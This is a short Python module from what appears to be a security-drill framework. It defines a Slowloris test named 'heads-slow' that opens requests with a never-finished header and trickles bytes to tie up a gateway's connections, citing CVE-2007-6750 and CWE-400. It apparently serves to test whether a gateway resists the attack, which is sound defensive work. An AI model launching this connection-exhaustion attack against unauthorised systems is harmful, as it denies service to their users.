"""Heads that never end, an octet now and then, to hold connections for nothing (Slowloris)."""

from bartizan.drill.attack import Attack, Outcome, Stage
from bartizan.drill.target import Target
from bartizan.drill.trickle import trickled


def _act(target: Target) -> Outcome:
    door = target.scene().door("honest")
    begun = door.request("GET", door.path("models")).removesuffix(b"\r\n") + b"x-slow: "
    return trickled(target, begun, "heads")


ATTACK = Attack(
    name="heads-slow",
    control="gateway.input-valid",
    title="heads that never end",
    skill=2,
    stage=Stage.SCENE,
    because="a few hundred connections that are never done keep everybody else out, from one machine (CVE-2007-6750)",
    references=("AML.T0029", "API4:2023", "CWE-400"),
    weakening="heads_awaited",
    act=_act,
)
